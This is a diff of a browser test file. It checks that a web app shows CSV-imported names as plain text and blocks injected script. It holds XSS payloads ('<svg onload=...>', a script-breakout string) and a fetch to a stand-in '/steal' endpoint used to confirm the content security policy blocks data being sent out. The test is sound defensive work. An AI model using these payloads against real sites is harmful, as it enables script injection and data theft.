@@ -14,7 +14,11 @@ const ROW = '<svg onload=alert(2)>';
 const NOTE = '</script><script>window.pwned=2</script>';
 const CSV = `country,service,stakeholder,score,note\n"${COUNTRY}",D-2,"${STAKEHOLDER}",9,"${NOTE}"\n"${COUNTRY}","${ROW}",NCSC,3,\n`;
 
-const app = setupChromiumApp({ viewport: { width: 1280, height: 900 }, contextOptions: { acceptDownloads: true }, localSchemes: ['blob', 'data', 'file'] });
+const app = setupChromiumApp({
+  viewport: { width: 1280, height: 900 },
+  contextOptions: { acceptDownloads: true },
+  localSchemes: ['blob', 'data', 'file'],
+});
 let site: StaticSite, context: BrowserContext, page: Page;
 let dialogs: string[];
 beforeEach(() => {
@@ -47,19 +51,28 @@ describe('user-supplied text', () => {
   it('imports, shows, presents and saves markup in names as literal text, and runs none of it', async () => {
     await page.goto(site.url);
     await page.getByText('Japan — division of X.1060 roles').waitFor();
-    await page.locator('input[type=file]').setInputFiles({ name: 'evil.csv', mimeType: 'text/csv', buffer: Buffer.from(CSV) });
+    await page
+      .locator('input[type=file]')
+      .setInputFiles({ name: 'evil.csv', mimeType: 'text/csv', buffer: Buffer.from(CSV) });
     const title = `${COUNTRY} — division of X.1060 roles`;
     await importAfterReview(page, title);
-    const labels = await page.locator('[role="gridcell"]').evaluateAll((els) => els.map((e) => e.getAttribute('aria-label') ?? ''));
+    const labels = await page
+      .locator('[role="gridcell"]')
+      .evaluateAll((els) => els.map((e) => e.getAttribute('aria-label') ?? ''));
     expect(labels.some((l) => l.includes(`, ${STAKEHOLDER}: 9 of 10`))).toBe(true);
     expect(labels.some((l) => l.startsWith(ROW))).toBe(true);
-    expect(await page.locator('[role="columnheader"]', { hasText: 'pwned' }).first().getAttribute('aria-label')).toBe(STAKEHOLDER);
+    expect(await page.locator('[role="columnheader"]', { hasText: 'pwned' }).first().getAttribute('aria-label')).toBe(
+      STAKEHOLDER,
+    );
     await expectInert(page);
 
     await page.getByRole('button', { name: 'Deck (0)' }).click();
     await page.getByRole('button', { name: 'Add to deck' }).click();
     expect(await page.locator('.deck-item-title').textContent()).toBe(`1. ${title}`);
-    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save as standalone HTML' }).click()]);
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: 'Save as standalone HTML' }).click(),
+    ]);
     await page.keyboard.press('Escape');
     await page.getByRole('button', { name: 'Present', exact: true }).click();
     expect(await page.locator('.presenter-title').textContent()).toBe(title);
@@ -83,8 +96,13 @@ describe('user-supplied text', () => {
     await page.getByText('Japan — division of X.1060 roles').waitFor();
     const result = await page.evaluate(async () => {
       const violations: string[] = [];
-      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
-      const fetched = await fetch('http://127.0.0.2:9/steal').then(() => 'sent', () => 'blocked');
+      document.addEventListener('securitypolicyviolation', (e) =>
+        violations.push(`${e.violatedDirective} ${e.blockedURI}`),
+      );
+      const fetched = await fetch('http://127.0.0.2:9/steal').then(
+        () => 'sent',
+        () => 'blocked',
+      );
       const s = document.createElement('script');
       s.textContent = 'window.pwned = 3';
       document.body.appendChild(s);
